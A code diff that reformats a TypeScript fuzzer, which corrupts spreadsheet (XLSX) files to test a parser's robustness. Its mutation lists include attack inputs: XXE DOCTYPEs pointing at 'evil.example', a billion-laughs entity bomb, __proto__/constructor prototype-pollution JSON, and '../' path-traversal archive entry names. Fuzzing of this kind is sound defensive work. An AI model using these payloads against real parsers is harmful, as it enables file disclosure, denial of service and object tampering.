@@ -195,7 +195,20 @@ const breakOp: XmlOp = (w) => {
     out = s.slice(0, i) + s.slice(i + 1);
     what = kind === 0 ? 'drop a "<"' : 'drop a ">"';
   } else if (kind === 2) {
-    const piece = w.rng.pick(['<', '<x>', '</x>', '</row>', '<row>', '<c>', '</sheetData>', '<?xml version="1.0"?>', '<!', '&', '"', "'"]);
+    const piece = w.rng.pick([
+      '<',
+      '<x>',
+      '</x>',
+      '</row>',
+      '<row>',
+      '<c>',
+      '</sheetData>',
+      '<?xml version="1.0"?>',
+      '<!',
+      '&',
+      '"',
+      "'",
+    ]);
     out = insertAt(s, at, piece);
     what = `insert ${JSON.stringify(piece)}`;
   } else if (kind === 3) {
@@ -291,7 +304,9 @@ const mergeOp: XmlOp = (w) => {
   }
   w.setText(
     name,
-    s.includes('</mergeCells>') ? insertBefore(s, ['</mergeCells>'], cells) : insertBefore(s, ['<pageMargins', '</worksheet>'], `<mergeCells>${cells}</mergeCells>`),
+    s.includes('</mergeCells>')
+      ? insertBefore(s, ['</mergeCells>'], cells)
+      : insertBefore(s, ['<pageMargins', '</worksheet>'], `<mergeCells>${cells}</mergeCells>`),
   );
   return `${what} in ${name}`;
 };
@@ -325,14 +340,24 @@ const rangeFeatureOp: XmlOp = (w) => {
     );
   } else if (kind === 2) {
     const loc = w.rng.pick(["'__proto__'!A1", 'A1', "'進捗管理表'!XFD1048576", '', '#REF!']);
-    out = insertBefore(s, ['<pageMargins', '</worksheet>'], `<hyperlinks><hyperlink ref="${q}" location="${xmlEscape(loc)}" display="x"/></hyperlinks>`);
+    out = insertBefore(
+      s,
+      ['<pageMargins', '</worksheet>'],
+      `<hyperlinks><hyperlink ref="${q}" location="${xmlEscape(loc)}" display="x"/></hyperlinks>`,
+    );
   } else if (kind === 3) {
     const max = w.rng.pick(['16384', '16385', '99999999', '0', '-1']);
     out = s.replace(/<cols>.*?<\/cols>/s, '');
-    out = insertBefore(out, ['<sheetData'], `<cols><col min="${w.rng.pick(['1', '0', '16384'])}" max="${max}" width="9" customWidth="1"/></cols>`);
+    out = insertBefore(
+      out,
+      ['<sheetData'],
+      `<cols><col min="${w.rng.pick(['1', '0', '16384'])}" max="${max}" width="9" customWidth="1"/></cols>`,
+    );
   } else if (kind === 4) {
     out = s.replace(/<v>([^<]*)<\/v>/, `<f t="shared" ref="${q}" si="0">A1+1</f><v>$1</v>`);
-    out = out.replace(/(<c [^>]*>)<v>/g, (m, open: string) => (w.rng.chance(0.3) ? `${open}<f t="shared" si="${w.rng.pick(['0', '1', '-1', 'x'])}"/><v>` : m));
+    out = out.replace(/(<c [^>]*>)<v>/g, (m, open: string) =>
+      w.rng.chance(0.3) ? `${open}<f t="shared" si="${w.rng.pick(['0', '1', '-1', 'x'])}"/><v>` : m,
+    );
   } else {
     out = s.replace(/<v>([^<]*)<\/v>/, `<f t="array" ref="${q}">1</f><v>$1</v>`);
   }
@@ -366,7 +391,15 @@ const definedNameOp: XmlOp = (w) => {
   const n = w.rng.range(1, 3);
   const defs: string[] = [];
   for (let i = 0; i < n; i++) {
-    const name = w.rng.pick(['_xlnm.Print_Area', '_xlnm.Print_Titles', '_xlnm._FilterDatabase', '__proto__', 'constructor', 'x', 'x']);
+    const name = w.rng.pick([
+      '_xlnm.Print_Area',
+      '_xlnm.Print_Titles',
+      '_xlnm._FilterDatabase',
+      '__proto__',
+      'constructor',
+      'x',
+      'x',
+    ]);
     const local = w.rng.chance(0.5) ? ` localSheetId="${w.rng.pick(['0', '1', '-1', '99'])}"` : '';
     defs.push(`<definedName name="${name}"${local}>${xmlEscape(w.rng.pick(refs))}</definedName>`);
   }
@@ -399,7 +432,10 @@ const doctypeOp: XmlOp = (w) => {
     '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
     '<!DOCTYPE x [<!ENTITY e "&e;">]>',
     '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' +
-      Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('') +
+      Array.from(
+        { length: 9 },
+        (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`,
+      ).join('') +
       ']><!-- laughs -->',
     '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>',
     '<!DOCTYPE x [<!ELEMENT x (#PCDATA)> <!ATTLIST x a CDATA "1">]>',
@@ -427,7 +463,11 @@ const rowsOp: XmlOp = (w) => {
   if (kind === 0) {
     const r = w.rng.pick(['1048576', '1048577', '2000000000', '4294967296', '99999999999', '65536', '100000']);
     const c = w.rng.pick(['A', 'J', 'XFD', 'XFE', 'ZZZZ']);
-    s = insertBefore(s, ['</sheetData>'], `<row r="${r}"><c r="${c}${r}" t="inlineStr"><is><t>${xmlEscape(hostileText(w.rng).slice(0, 100))}</t></is></c></row>`);
+    s = insertBefore(
+      s,
+      ['</sheetData>'],
+      `<row r="${r}"><c r="${c}${r}" t="inlineStr"><is><t>${xmlEscape(hostileText(w.rng).slice(0, 100))}</t></is></c></row>`,
+    );
     w.setText(name, s);
     return `a cell at ${c}${r} in ${name}`;
   }
@@ -485,7 +525,13 @@ const richOp: XmlOp = (w) => {
   if (!cells.length) return undefined;
   const m = w.rng.pick(cells);
   const t = xmlEscape(hostileText(w.rng));
-  const is = w.rng.pick([`<is><t>${t}</t></is>`, `<is><r><rPr><b/></rPr><t>${t}</t></r><r><rPr/></r></is>`, '<is><r><rPr><i/></rPr></r></is>', '<is/>', '']);
+  const is = w.rng.pick([
+    `<is><t>${t}</t></is>`,
+    `<is><r><rPr><b/></rPr><t>${t}</t></r><r><rPr/></r></is>`,
+    '<is><r><rPr><i/></rPr></r></is>',
+    '<is/>',
+    '',
+  ]);
   w.setText(name, s.slice(0, m.index!) + `<c r="${m[1]}" t="inlineStr">${is}</c>` + s.slice(m.index! + m[0].length));
   return `inline string at ${m[1]} in ${name}`;
 };
@@ -498,12 +544,34 @@ function own(o: object, key: string, value: unknown): void {
 /** A profile saved in the workbook by the add-in (document settings), valid or hostile. */
 const profileOp: XmlOp = (w) => {
   const json = JSON.parse(JSON.stringify(DEFAULT_PROFILE)) as Record<string, unknown>;
-  const values: unknown[] = [null, -1, 1e308, '', 'x'.repeat(10000), [], {}, true, [1, 2, 3], 'A', JSON.parse('{"__proto__":{"x":1}}'), Array(10000).fill('A')];
+  const values: unknown[] = [
+    null,
+    -1,
+    1e308,
+    '',
+    'x'.repeat(10000),
+    [],
+    {},
+    true,
+    [1, 2, 3],
+    'A',
+    JSON.parse('{"__proto__":{"x":1}}'),
+    Array(10000).fill('A'),
+  ];
   const keys = Object.keys(json);
   let text: string;
   let what: string;
   if (w.rng.chance(0.15)) {
-    text = w.rng.pick(['not json', '{', '', '\uFEFF{}', 'null', '[]', '{"__proto__":{"rules":{}}}', '{"constructor":{"prototype":{"x":1}}}']);
+    text = w.rng.pick([
+      'not json',
+      '{',
+      '',
+      '\uFEFF{}',
+      'null',
+      '[]',
+      '{"__proto__":{"rules":{}}}',
+      '{"constructor":{"prototype":{"x":1}}}',
+    ]);
     what = `raw ${JSON.stringify(text)}`;
   } else {
     const n = w.rng.range(1, 3);
@@ -583,7 +651,16 @@ function badUtf8(w: Work): string | undefined {
   if (!nodes.length) return undefined;
   const [a, b] = w.rng.pick(nodes);
   const at = w.rng.range(a, b);
-  const seq = w.rng.pick([[0xed, 0xa0, 0x80], [0xed, 0xbf, 0xbf], [0xff], [0xc0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0xe3, 0x81], [0xef, 0xbf, 0xbf], [0x80]]);
+  const seq = w.rng.pick([
+    [0xed, 0xa0, 0x80],
+    [0xed, 0xbf, 0xbf],
+    [0xff],
+    [0xc0, 0x80],
+    [0xf4, 0x90, 0x80, 0x80],
+    [0xe3, 0x81],
+    [0xef, 0xbf, 0xbf],
+    [0x80],
+  ]);
   e.data = Buffer.concat([e.data.subarray(0, at), Buffer.from(seq), e.data.subarray(at)]);
   return `bytes ${seq.map((x) => x.toString(16)).join(' ')} in ${name}`;
 }
@@ -613,7 +690,15 @@ const entryOp: EntryOp = (w) => {
       }
       return 'reorder entries';
     case 3: {
-      const name = w.rng.pick(['/' + e.name, e.name.toUpperCase(), e.name.replace(/\//g, '\\'), '../' + e.name, e.name + '/', e.name + ' ', e.name + '\u0000']);
+      const name = w.rng.pick([
+        '/' + e.name,
+        e.name.toUpperCase(),
+        e.name.replace(/\//g, '\\'),
+        '../' + e.name,
+        e.name + '/',
+        e.name + ' ',
+        e.name + '\u0000',
+      ]);
       es[i] = { ...e, name };
       return `rename ${e.name} to ${JSON.stringify(name)}`;
     }
@@ -681,7 +766,10 @@ const byteOp: ByteOp = (rng, src, layout) => {
         const at = rng.range(lo, hi - 1);
         bytes[at] = bytes[at]! ^ rng.range(1, 255);
       }
-      return { bytes, op: `flip ${n} bytes in ${region}${e && (region === 'local' || region === 'data') ? ` of ${e.name}` : ''}` };
+      return {
+        bytes,
+        op: `flip ${n} bytes in ${region}${e && (region === 'local' || region === 'data') ? ` of ${e.name}` : ''}`,
+      };
     }
     case 2: {
       if (!e) return { bytes, op: 'no entry' };
@@ -691,7 +779,17 @@ const byteOp: ByteOp = (rng, src, layout) => {
         ['local compressed size', e.local + 18],
         ['local size', e.local + 22],
       ] as const);
-      const v = rng.pick([0, 1, 100, 0xffffffff, 0x7fffffff, 400 << 20, bytes.readUInt32LE(field[1]) + 1, bytes.readUInt32LE(field[1]) - 1, rng.int(0x100000000)]);
+      const v = rng.pick([
+        0,
+        1,
+        100,
+        0xffffffff,
+        0x7fffffff,
+        400 << 20,
+        bytes.readUInt32LE(field[1]) + 1,
+        bytes.readUInt32LE(field[1]) - 1,
+        rng.int(0x100000000),
+      ]);
       bytes.writeUInt32LE(v >>> 0, field[1]);
       return { bytes, op: `${field[0]} of ${e.name} = ${v >>> 0}` };
     }
@@ -754,7 +852,10 @@ const byteOp: ByteOp = (rng, src, layout) => {
       const junk = Buffer.from(Array.from({ length: rng.pick([1, 100, 70000]) }, () => rng.int(256)));
       return rng.chance(0.5)
         ? { bytes: Buffer.concat([bytes, junk]), op: `append ${junk.length} bytes` }
-        : { bytes: Buffer.concat([bytes.subarray(0, 4), junk, bytes.subarray(4)]), op: `insert ${junk.length} bytes after the magic` };
+        : {
+            bytes: Buffer.concat([bytes.subarray(0, 4), junk, bytes.subarray(4)]),
+            op: `insert ${junk.length} bytes after the magic`,
+          };
     }
     default: {
       // A file name length that runs past the header.
